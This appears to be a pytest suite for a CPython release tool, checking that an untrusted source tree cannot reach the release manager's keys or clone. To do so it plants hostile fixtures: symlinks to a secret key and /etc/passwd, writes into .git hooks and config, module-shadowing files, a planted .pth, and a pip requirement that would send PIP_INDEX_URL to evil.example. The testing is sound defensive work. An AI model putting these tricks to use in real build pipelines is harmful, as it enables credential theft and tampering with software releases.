"""The tree's own programs turned against the release manager: what they reach, what they leave."""

from __future__ import annotations

import io
import os
import shutil
import sys
import tarfile
import zipfile
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from doit_receipts.errors import ServiceFailed, StepFailed
from plugins.model.local_settings import Docs, SourceTest
from plugins.ports.docs_python import python_for
from plugins.services.programs import MachinePrograms
from plugins.steps import docs, docs_lock, news, source_test
from plugins.steps.docs_tools import make_environment
from plugins.steps.docs_tree import Machine, finished
from plugins.steps.left_behind import content_left, see_plain
from tests.confining import Targets, needs_confinement
from tests.progress import Quiet
from tests.source_world import DAY, a_world

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator, Mapping

    from plugins.model.docs_source import DocsSource
    from plugins.model.release import Release

    Builds = Callable[..., Release]
    ToyDocs = Callable[..., tuple[Release, DocsSource]]

# Each part of a source test is one of these, and all of them can be turned.
TREE = {
    "configure": "#!/bin/sh\n",
    "Makefile": "all:\n\t@true\n",
    "python": '#!/bin/sh\ntest "$1" != -V || echo Python 3.13.6\n',
    "Lib/test/test_os.py": "",
    "attack.py": "",
}


@pytest.fixture
def targets(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Targets]:
    with Targets(tmp_path_factory.mktemp("ours")) as made:
        yield made


def all_attacks(targets: Targets) -> str:
    """A program that tries everything, and says of each what came of it."""
    return "".join(
        f"print({f'tried {name}:'!r}, end=' ', flush=True)\n{program}"
        for name, program in targets.attacks().items()
    )


def outcomes(lines: list[str]) -> dict[str, str]:
    found = (line.removeprefix("tried ").partition(": ") for line in lines if "tried " in line)
    return {name: outcome.strip() for name, _, outcome in found}


def with_sources(release: Release, changed: Mapping[str, str]) -> Release:
    """Both source archives of a release, of a tree that builds without a compiler."""
    release.layout.src.mkdir(parents=True)
    for archive, mode in zip(release.layout.tarballs, ("w:gz", "w:xz"), strict=True):
        with tarfile.open(archive, mode) as tar:  # type: ignore[call-overload]
            for name, text in sorted({**TREE, **changed}.items()):
                info = tarfile.TarInfo(f"{release.layout.folder_in_archive}/{name}")
                info.size, info.mode = len(text.encode()), 0o755
                tar.addfile(info, io.BytesIO(text.encode()))
    return release


@needs_confinement
@pytest.mark.parametrize("planted", ["configure", "Makefile", "python"])
def test_configure_make_and_tests_reach_nothing_of_ours(
    a_release: Builds, targets: Targets, planted: str
) -> None:
    runs = "python3 -c 'import os' && python3 attack.py"
    turned = {
        "configure": f"#!/bin/sh\n{runs}\n",
        "Makefile": f"all:\n\t@{runs}\n",
        "python": f'{TREE["python"].rstrip()}\ntest "$1" = -V || {{ {runs}; }}\n',
    }
    tree = {planted: turned[planted], "attack.py": all_attacks(targets)}
    said: list[str] = []
    programs = MachinePrograms(said.append)
    source_test.run(with_sources(a_release(), tree), programs, SourceTest.QUICK, Quiet())
    found = outcomes(said)
    assert set(found) == set(targets.attacks())
    assert [name for name, outcome in found.items() if outcome == "done"] in (
        [],
        ["write beside its folder"],
    )
    assert targets.are_unharmed()


@needs_confinement
@pytest.mark.slow
def test_the_documentation_reaches_nothing_of_ours(
    toy_docs: ToyDocs, toy_tree: dict[str, str], targets: Targets
) -> None:
    """Its conf.py is a program; so is each package that it is built with."""
    conf = toy_tree["Doc/conf.py"] + all_attacks(targets)
    release, source = toy_docs(changed={"Doc/conf.py": conf})
    docs.build(release, source, ["text"], MachinePrograms(), Quiet(), Machine(2, 8000))
    for log in ("docs-read", "docs-text"):
        found = outcomes(release.layout.log(log).read_text().splitlines())
        assert set(found) == set(targets.attacks())
        done = [name for name, outcome in found.items() if outcome == "done"]
        assert done in ([], ["write beside its folder"])
    assert targets.are_unharmed()


LEAVING = """
import os
def leave(app, error):
    if app.builder.name == "text":
        {statement}
def setup(app):
    app.connect("build-finished", leave)
    return {{"parallel_read_safe": True}}
"""


@pytest.mark.slow
@pytest.mark.parametrize(
    ("statement", "problem"),
    [
        ("os.symlink({secret!r}, str(app.outdir / 'about.txt'))", "about.txt: is a link"),
        ("os.mkfifo(app.outdir / 'pipe.txt')", "pipe.txt: is a device, a pipe or a socket"),
    ],
)
def test_what_the_documentation_leaves_is_not_followed(
    toy_docs: ToyDocs, toy_tree: dict[str, str], tmp_path: Path, statement: str, problem: str
) -> None:
    """A link to a key would otherwise be read, packed and published; a pipe would hang us."""
    secret = tmp_path / "id_ed25519"
    secret.write_text("canary")
    code = LEAVING.format(statement=statement.format(secret=str(secret)))
    conf = toy_tree["Doc/conf.py"] + "extensions.append('leaving')\n"
    changed = {"Doc/conf.py": conf, "Doc/tools/leaving.py": code}
    release, source = toy_docs(changed=changed)
    with pytest.raises(StepFailed, match=problem):
        docs.build(release, source, ["text"], MachinePrograms(), Quiet(), Machine(2, 8000))
    assert not list(release.layout.docs.glob("*"))


# Each of these has the tree's own code put a link where a folder of ours was; ``where`` is outside.
_SWAPPING = """
import atexit, os
def swap(path):
    os.rename(path, str(path) + ".old")
    os.symlink({where!r}, path)
def leave(app, error):
    if app.builder.name == {builder!r}:
        atexit.register(swap, str({folder}))
def setup(app):
    app.connect("build-finished", leave)
    return {{"parallel_read_safe": True}}
"""


@pytest.fixture
def ours(tmp_path: Path) -> Path:
    """A folder of the release manager's, such as the one of the keys."""
    made = tmp_path / "ours"
    (made / "social_previews").mkdir(parents=True)
    for file in ("id_ed25519", "social_previews/card.png", "contents.html"):
        (made / file).write_text("canary")
        os.utime(made / file, (2e9, 2e9))
    return made


def are_untouched(ours: Path) -> bool:
    files = [each for each in ours.rglob("*") if each.is_file()]
    assert len(files) == 3
    return all(each.stat().st_mtime == 2e9 for each in files)


@pytest.mark.slow
@pytest.mark.parametrize(
    ("builder", "folder", "problem"),
    [
        ("dummy", "app.doctreedir", "doctrees: is a link"),
        ("html", "app.outdir", "html: is a link"),
        ("html", "app.outdir / '_images'", "_images: is a link"),
    ],
)
def test_a_folder_of_the_documentation_that_became_a_link_is_not_followed(
    toy_docs: ToyDocs, toy_tree: dict[str, str], ours: Path, builder: str, folder: str, problem: str
) -> None:
    """What was read would be copied for the next builder, with all our rights, to be published."""
    code = _SWAPPING.format(where=str(ours), builder=builder, folder=folder)
    conf = toy_tree["Doc/conf.py"] + "extensions.append('swapping')\n"
    changed = {"Doc/conf.py": conf, "Doc/tools/swapping.py": code}
    release, source = toy_docs(changed=changed)
    with pytest.raises(StepFailed, match=problem):
        docs.build(release, source, ["html"], MachinePrograms(), Quiet(), Machine(2, 8000))
    assert are_untouched(ours)
    assert not list(release.layout.docs.glob("*"))
    left = [each for each in release.layout.work.rglob("*") if each.is_file()]
    assert not [each for each in left if b"canary" in each.read_bytes()]


@pytest.mark.slow
def test_the_folder_of_the_news_that_became_a_link_is_not_followed(
    toy_docs: ToyDocs, toy_tree: dict[str, str], ours: Path
) -> None:
    makefile = toy_tree["Doc/Makefile"].replace("\tmkdir -p build\n", f"\tln -s {ours} build\n")
    makefile = makefile.replace("build/NEWS; ", "/dev/null; ")
    release, source = toy_docs(changed={"Doc/Makefile": makefile})
    with pytest.raises(StepFailed, match="build: is a link"):
        docs.build(release, source, ["text"], MachinePrograms(), Quiet(), Machine(2, 8000))
    assert are_untouched(ours)


def test_what_was_finished_and_became_a_link_is_made_again(tmp_path: Path, ours: Path) -> None:
    """Its contents are the same, and would be followed to wherever they are."""

    def make(made: Path) -> None:
        (made / "page").write_text("page")

    folder = tmp_path / "room" / "html"
    finished(folder, make)
    folder.rename(ours / "html")
    folder.symlink_to(ours / "html")
    finished(folder, make)
    assert not folder.is_symlink()
    assert (folder / "page").read_text() == (ours / "html" / "page").read_text() == "page"


def make_folder(path: Path) -> None:
    path.mkdir()
    path.chmod(0o2755)


@pytest.mark.parametrize(
    ("left", "problem"),
    [
        (lambda path: path.symlink_to("/etc/passwd"), "is a link"),
        (lambda path: path.symlink_to("beside"), "is a link"),
        (os.mkfifo, "is a device, a pipe or a socket"),
        (lambda path: (path.touch(), path.chmod(0o4755)), "would run with the rights"),
        (lambda path: (path.touch(), path.chmod(0o2755)), "would run with the rights"),
        (make_folder, "would run with the rights"),
        (lambda path: (path.touch(), path.with_name("z").hardlink_to(path)), "has a second name"),
        (lambda path: path.with_name("a\nb").touch(), "control characters"),
        (lambda path: Path(os.fsdecode(bytes(path) + b"\xff")).touch(), "bytes that are no text"),
        (lambda path: path.write_bytes(b"12345"), "holds more than 0 MB"),
        (lambda path: [path.with_name(f"f{n}").touch() for n in range(9)], "more than 8 files"),
    ],
)
def test_nothing_but_plain_files_and_folders_may_be_left(
    tmp_path: Path, left: Callable[[Path], object], problem: str
) -> None:
    (tmp_path / "deep").mkdir()
    left(tmp_path / "deep" / "file")
    with pytest.raises(StepFailed, match=problem):
        see_plain(tmp_path, most_files=8, most_bytes=4)


@pytest.mark.parametrize(
    ("left", "problem"),
    [
        (lambda path: path.symlink_to("ours"), "left: is a link, and wanted is a folder"),
        (lambda path: path.symlink_to("nothing"), "left: is a link, and wanted is a folder"),
        (os.mkfifo, "left: is something else, and wanted is a folder"),
        (Path.touch, "left: is something else, and wanted is a folder"),
        (lambda _path: None, "left: cannot be read: No such file"),
    ],
)
def test_the_folder_itself_may_be_nothing_else(
    ours: Path, left: Callable[[Path], object], problem: str
) -> None:
    folder = ours.with_name("left")
    left(folder)
    with pytest.raises(StepFailed, match=problem):
        see_plain(folder)
    with pytest.raises(StepFailed, match=problem):
        content_left(folder / "id_ed25519")


def test_plain_files_and_folders_pass(tmp_path: Path) -> None:
    (tmp_path / "a folder").mkdir()
    (tmp_path / "a folder" / "Ä.txt").write_text("text")
    see_plain(tmp_path)
    assert content_left(tmp_path / "a folder" / "Ä.txt") == b"text"


@pytest.mark.parametrize(
    ("left", "problem"),
    [
        (lambda path: path.symlink_to("/etc/passwd"), "cannot be read"),
        (os.mkfifo, "is a device, a pipe or a socket"),
        (lambda path: path.mkdir(), "is a folder, and wanted is a file"),
        (lambda path: path.write_bytes(b"12345"), "holds more than"),
        (lambda _path: None, "cannot be read: No such file"),
    ],
)
def test_one_file_that_was_left_is_read_as_carefully(
    tmp_path: Path, left: Callable[[Path], object], problem: str
) -> None:
    left(tmp_path / "NEWS")
    with pytest.raises(StepFailed, match=problem):
        content_left(tmp_path / "NEWS", most_bytes=4)


@needs_confinement
def test_what_a_failing_blurb_leaves_is_not_followed(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Its message shows a line of the entry that it failed for."""
    world = a_world(tmp_path)
    clone = world.make()
    secret = tmp_path / "secret"
    secret.write_text("..canary\n")
    program = tmp_path / "bin" / "blurb"
    program.parent.mkdir()
    program.write_text(
        "#!/bin/sh\n"
        "for entry in Misc/NEWS.d/next/*/*.rst; do\n"
        f"    ln -sf {secret} $entry\n"
        "done\nexit 1\n"
    )
    program.chmod(0o755)
    monkeypatch.setenv("PATH", f"{program.parent}:{os.environ['PATH']}")
    monkeypatch.setattr("sys.executable", str(tmp_path / "elsewhere" / "python"))
    with pytest.raises(StepFailed, match="is a link") as caught:
        news.merge(world.release, clone, world.programs, date=DAY)
    assert "canary" not in "".join((str(caught.value), *caught.value.details))


@needs_confinement
def test_blurb_cannot_plant_anything_in_the_clone(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A hook or a setting of the clone would run with the next git of ours."""
    world = a_world(tmp_path)
    clone = world.make()
    program = tmp_path / "bin" / "blurb"
    program.parent.mkdir()
    program.write_text(
        "#!/bin/sh\n"
        "for place in .git/config .git/hooks/pre-commit .git/index configure.ac Lib/spam.py; do\n"
        "    echo evil 2>/dev/null >>$place && echo wrote $place >&2\n"
        "done\nexit 1\n"
    )
    program.chmod(0o755)
    monkeypatch.setenv("PATH", f"{program.parent}:{os.environ['PATH']}")
    monkeypatch.setattr("sys.executable", str(tmp_path / "elsewhere" / "python"))
    with pytest.raises(StepFailed) as caught:
        news.merge(world.release, clone, world.programs, date=DAY)
    assert "wrote" not in "".join((str(caught.value), *caught.value.details))


@pytest.mark.slow
def test_an_environment_of_tools_that_changed_since_is_made_again(tmp_path: Path) -> None:
    """Its marker says what it was made of; what is in it is looked at as well."""
    doc = tmp_path / "Doc"
    doc.mkdir()
    (doc / "requirements.txt").write_text("# nothing\n")

    def tools() -> Path:
        return make_environment(tmp_path / "docs-tools", doc, MachinePrograms(), Quiet()).python

    before = tools()
    assert tools() == before
    (before.parents[1] / "lib" / "evil.pth").write_text("import evil\n")
    assert tools() != before


@pytest.mark.slow
@pytest.mark.parametrize(
    ("brings", "replaced"),
    [
        ("scripts/python", "bin/python"),
        ("scripts/python3", "bin/python3"),
        ("data/bin/python", "bin/python"),
        ("data/pyvenv.cfg", "pyvenv.cfg"),
        ("scripts/pythonic", ""),
    ],
)
def test_a_package_does_not_replace_the_python_that_it_is_for(
    tmp_path: Path, brings: str, replaced: str
) -> None:
    """By the first line of a script ``bin/python`` all of this machine was shown to it."""
    doc = tmp_path / "Doc"
    doc.mkdir()
    wheel = doc / "toy-1.0-py3-none-any.whl"
    files = {
        f"toy-1.0.data/{brings}": "#!//bin/sh\n",
        "toy-1.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: toy\nVersion: 1.0\n",
        "toy-1.0.dist-info/WHEEL": (
            "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
        ),
        "toy-1.0.dist-info/RECORD": "",
    }
    with zipfile.ZipFile(wheel, "w") as written:
        for name, text in files.items():
            written.writestr(name, text)
    (doc / "requirements.txt").write_text(f"toy @ {wheel.as_uri()}\n")
    folder = tmp_path / "docs-tools"
    if not replaced:
        assert make_environment(folder, doc, MachinePrograms(), Quiet()).installed == ("toy==1.0",)
        return
    with pytest.raises(StepFailed, match=rf"one of its packages replaces {replaced} ") as caught:
        make_environment(folder, doc, MachinePrograms(), Quiet())
    assert wheel.name in "".join(caught.value.details)
    assert not (folder / "pep101.json").exists()


@needs_confinement
@pytest.mark.slow
def test_building_the_documentation_leaves_its_tools_as_they_were(
    toy_docs: ToyDocs, docs_tools: Path
) -> None:
    release, source = toy_docs()
    docs.build(release, source, ["text"], MachinePrograms(), Quiet(), Machine(2, 8000))
    marker = (docs_tools / "pep101.json").read_bytes()
    shutil.rmtree(release.layout.scratch)
    docs.build(release, source, ["text"], MachinePrograms(), Quiet(), Machine(2, 8000))
    assert (docs_tools / "pep101.json").read_bytes() == marker


# Whichever of them is imported leaves its mark on a screen, and where nothing confines it a file.
_OF_OTHERS = """
import os
print("run by us:", __file__)
try:
    open({mark!r}, "w").close()
except OSError:
    pass
"""
_STARTED = ("venv", "pip", "ensurepip", "logging", "shutil", "argparse", "sitecustomize")


@pytest.mark.slow
def test_modules_of_the_tree_do_not_run_in_place_of_our_own(tmp_path: Path) -> None:
    """``python -m venv`` in the tree's Doc folder was Doc/venv.py, which nothing confines."""
    mark = tmp_path / "mark"
    doc = tmp_path / "Doc"
    doc.mkdir()
    (doc / "requirements.txt").write_text("# nothing\n")
    for name in _STARTED:
        (doc / f"{name}.py").write_text(_OF_OTHERS.format(mark=str(mark)))
    said: list[str] = []
    programs = MachinePrograms(said.append)
    assert python_for(doc / "requirements.txt", programs).python == Path(sys.executable)
    tools = make_environment(tmp_path / "docs-tools", doc, programs, Quiet())
    assert tools.installed == ()
    assert (tools.python.parents[1] / "pyvenv.cfg").is_file()
    assert [line for line in said if line.startswith("run by us")] == []
    assert not mark.exists()


@pytest.mark.slow
def test_requirements_that_are_a_module_do_not_run(tmp_path: Path) -> None:
    """The room of a lock holds what the requirements name, and pip.py may be among them."""
    world = a_world(tmp_path / "world")
    world.commit(
        {
            "Doc/requirements.txt": "--no-index\nnobody-has-it\n-r pip.py\n",
            "Doc/pip.py": "print('run by us')\n",
        }
    )
    clone = world.make()
    said: list[str] = []
    programs = MachinePrograms(said.append)
    with pytest.raises((StepFailed, ServiceFailed)):
        docs_lock.make(world.release, clone, Docs(), programs, Quiet(), after="base")
    assert "run by us" not in said


@pytest.mark.parametrize(
    ("line", "problem"),
    [("--no-binary :all:", "own code"), ("blurb @ https://evil.example/${PIP_INDEX_URL}", "value")],
)
def test_documentation_without_a_lock_refuses_what_its_lock_would(
    toy_docs: ToyDocs, line: str, problem: str
) -> None:
    """A machine that builds for another person has no lock, and pip reads the tree's own lines."""
    release, source = toy_docs(changed={"Doc/constraints.txt": f"{line}\n"})
    with pytest.raises(StepFailed, match=rf"Doc/constraints\.txt:1: has a line .*{problem}"):
        docs.build(release, source, ["text"], MachinePrograms(), Quiet(), Machine(2, 8000))
